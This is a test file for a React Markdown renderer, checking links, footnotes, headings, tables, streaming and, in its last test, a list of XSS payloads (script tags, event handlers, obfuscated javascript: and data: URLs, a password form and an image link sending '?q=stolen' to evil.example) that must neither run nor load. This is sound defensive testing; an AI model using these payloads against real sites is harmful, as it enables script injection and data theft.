import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

const shown = (text: string) => render(<Markdown text={text} growing={false} />).container;
const targetOf = (link: Element | undefined) => document.getElementById(link?.getAttribute('href')?.slice(1) ?? '');

describe('the Markdown of an answer', () => {
  it('shows headings, lists, tables and code', () => {
    shown('# Title\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`');
    expect(screen.getByRole('heading', { name: 'Title' })).toBeVisible();
    expect(screen.getByRole('listitem')).toHaveTextContent('one');
    expect(screen.getByRole('table')).toBeVisible();
    expect(screen.getByText('code').tagName).toBe('CODE');
  });

  it('opens links elsewhere, without handing over this page', () => {
    shown('[there](https://example.org/a)');
    const link = screen.getByRole('link', { name: 'there, opens in a new tab' });
    expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'));
    expect(link).toHaveAttribute('target', '_blank');
  });

  it('makes no link of an address that does not say where it leads', () => {
    shown('[settings](/settings/) [elsewhere](//example.org)');
    expect(screen.queryByRole('link')).toBeNull();
    expect(screen.getByText('settings')).toBeVisible();
  });

  it('says of each task whether it is done', () => {
    shown('- [x] rent\n- [ ] tax');
    expect(screen.getByRole('checkbox', { name: 'Done' })).toBeChecked();
    expect(screen.getByRole('checkbox', { name: 'Not done' })).not.toBeChecked();
  });

  it('loads no image from anywhere, and links to it instead', () => {
    const view = shown('![secret](https://evil.example/?q=stolen)');
    expect(view.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'Image: secret, opens in a new tab' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
  });

  it('keeps a link around an image one link', () => {
    const view = shown('[![chart](https://evil.example/i.png)](https://example.org)');
    expect(view.querySelectorAll('a')).toHaveLength(1);
    expect(screen.getByRole('link')).toHaveAttribute('href', 'https://example.org');
  });

  it('stays in this tab for a note or a letter', () => {
    shown('[write](mailto:ada@example.org)');
    expect(screen.getByRole('link', { name: 'write' })).not.toHaveAttribute('target');
  });

  it('leads from each mark of a note to the note and back, not into another answer', () => {
    const noted = 'Here[^1] and here[^1].\n\n[^1]: It was late.';
    const views = [shown(noted), shown(noted)];
    for (const view of views) {
      const [first, second, ...back] = [...view.querySelectorAll('a')];
      const led = [first, second].map((mark) => targetOf(mark));
      expect(led.map((note) => note?.textContent?.trim())).toEqual([expect.stringMatching(/^It was late/), expect.stringMatching(/^It was late/)]);
      expect(view).toContainElement(led[0] ?? null);
      expect(back.map((link) => targetOf(link))).toEqual([first, second]);
      expect(back[0]).toHaveAccessibleName('Back to reference 1');
    }
    const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('keeps its headings below that of the answer, whatever their level', () => {
    const view = shown('# One\n\n#### Four');
    expect([...view.querySelectorAll('h1, h2, h3, h4, h5, h6')].map(({ tagName }) => tagName)).toEqual(['H3', 'H3']);
    expect(screen.getByRole('heading', { name: 'Four' })).toHaveAttribute('data-level', '4');
  });

  it('lets a wide table scroll inside of itself, also with keys', () => {
    shown('| a | b |\n|---|---|\n| 1 | 2 |');
    expect(screen.getByRole('group', { name: 'Table' })).toContainElement(screen.getByRole('table'));
    expect(screen.getByRole('group', { name: 'Table' })).toHaveAttribute('tabindex', '0');
  });

  it('leaves what is settled alone while more is written behind it', () => {
    const { container, rerender } = render(<Markdown text={'First.\n\nSec'} growing={true} />);
    const first = container.querySelector('p');
    rerender(<Markdown text={'First.\n\nSecond.\n\nThird'} growing={true} />);
    expect(container.querySelector('p')).toBe(first);
    expect(container.querySelectorAll('.prose > p')).toHaveLength(3);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name="password"></form>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<https://example.org/" onmouseover="alert(1)>',
    '```html\n<script>alert(1)</script>\n```',
  ])('runs nothing and loads nothing of %j', (attack) => {
    const view = shown(attack);
    expect(view.querySelector('script, img, svg:not(button svg), iframe, style, form, input, object, embed, link, meta, base')).toBeNull();
    const elements = [...view.querySelectorAll('*')];
    expect(elements.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on'))).toEqual([]);
    const hrefs = elements.map((element) => element.getAttribute('href')).filter((href) => href !== null && href !== '');
    expect(hrefs.filter((href) => !/^(https?:|mailto:|#)/i.test(href ?? ''))).toEqual([]);
  });
});
